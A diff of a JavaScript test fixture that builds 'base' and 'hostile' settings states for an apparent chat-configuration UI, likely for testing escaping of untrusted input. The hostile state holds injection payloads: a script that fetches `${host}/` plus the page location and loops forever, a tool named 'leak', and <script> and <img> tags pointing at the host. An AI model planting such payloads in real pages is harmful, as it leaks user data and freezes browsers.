@@ -42,25 +42,24 @@ const base = (view) => ({
     model: 'gemini-2.5-pro',
     backend: 'gemini',
     generationConfig: '{"temperature": 0.5}',
-    tools: [],
+    tools: '',
     caching: true,
   },
   lint: { text: '{"contents": []}' },
   prompt: {
     static: 'You are {{ name }}.',
     dynamic: '',
-    sections: [{ name: 'rules', template: 'Be brief.' }],
     variables: '{"name": "Ada"}',
     placement: 'before-current-turn',
   },
-  chat: { saved: '', discarded: [], branches: [] },
+  chat: { saved: '' },
 });
 
 const script = `document.title = 'bad'; fetch('${host}/' + location); for (;;) {}`;
-const tool = { name: 'leak', description: '', parameters: '', answer: 'script', script };
+const tool = { name: 'leak', description: script };
 const hostile = (view) => ({
   ...base(view),
-  settings: { ...base(view).settings, model: `${host}/x?`, tools: [tool] },
+  settings: { ...base(view).settings, model: `${host}/x?`, tools: JSON.stringify([tool]) },
   lint: { text: `<script>document.title='bad'</script><img src="${host}/a">` },
   prompt: {
     ...base(view).prompt,
@@ -68,8 +67,6 @@ const hostile = (view) => ({
   },
   chat: {
     saved: turns.map((turn) => `${JSON.stringify({ strata: 1, ...turn })}\n`).join(''),
-    discarded: [{ after: 1, text: `<img src="${host}/d">`, reason: '<b>bad</b>' }],
-    branches: [],
   },
 });
 
